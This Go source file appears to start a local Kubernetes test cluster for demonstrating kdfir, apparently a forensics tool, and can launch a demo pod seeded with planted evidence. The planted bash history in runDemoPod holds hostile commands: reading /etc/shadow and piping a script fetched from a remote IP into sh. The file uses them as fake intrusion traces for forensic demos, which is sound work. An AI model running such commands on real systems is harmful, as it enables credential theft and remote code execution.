// Command devcluster runs the test control plane (etcd, kube-apiserver,
// kube-controller-manager, kube-scheduler and kwok) outside of `go test`,
// for `make demo` and for trying kdfir by hand. It writes the admin
// kubeconfig to -kubeconfig, prints "ready", and runs until interrupted.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strings"
	"syscall"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kdfir/kdfir/internal/testenv"
)

func main() {
	kubeconfig := flag.String("kubeconfig", "devcluster.kubeconfig", "where to write the admin kubeconfig")
	webhook := flag.String("audit-webhook", "", "URL of an audit webhook backend")
	webhookToken := flag.String("audit-webhook-token", "", "bearer token for the audit webhook")
	webhookCerts := flag.String("audit-webhook-cert-dir", "", "write a serving certificate (tls.crt, tls.key) the webhook trusts into this directory")
	pod := flag.String("pod", "", "NAMESPACE/NAME of a demo pod to run, with a planted shell history and logs")
	flag.Parse()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	env, err := testenv.Start(ctx, testenv.Options{AuditWebhookURL: *webhook, AuditWebhookToken: *webhookToken, AuditWebhookCertDir: *webhookCerts})
	if err != nil {
		fmt.Fprintln(os.Stderr, "devcluster:", err)
		os.Exit(1)
	}
	defer env.Stop()
	b, err := os.ReadFile(env.Kubeconfig)
	if err == nil {
		err = os.WriteFile(*kubeconfig, b, 0o600)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "devcluster:", err)
		return
	}
	if *pod != "" {
		if err := runDemoPod(ctx, env, *pod); err != nil {
			fmt.Fprintln(os.Stderr, "devcluster:", err)
			return
		}
	}
	fmt.Printf("ready server=%s node=%s audit-log=%s pods-dir=%s\n", env.Server, env.Node, env.AuditLogPath, env.PodDir("", ""))
	<-ctx.Done()
}

func runDemoPod(ctx context.Context, env *testenv.Env, ref string) error {
	ns, name, ok := strings.Cut(ref, "/")
	if !ok {
		return fmt.Errorf("-pod %q: want NAMESPACE/NAME", ref)
	}
	if _, err := env.Client.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		return err
	}
	_, _ = env.Client.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "default"}}, metav1.CreateOptions{})
	_, err := env.RunPod(ctx, testenv.PodSpec{
		Namespace: ns, Name: name,
		Labels: map[string]string{"app": "web"},
		Files: map[string]string{
			"/root/.bash_history": "id\ncat /etc/shadow\ncurl -s http://203.0.113.9/x.sh | sh\n",
			"/etc/passwd":         "root:x:0:0:root:/root:/bin/sh\n",
		},
		Logs: []string{"GET /healthz 200", "GET /admin 401", "POST /upload 200"},
	})
	return err
}
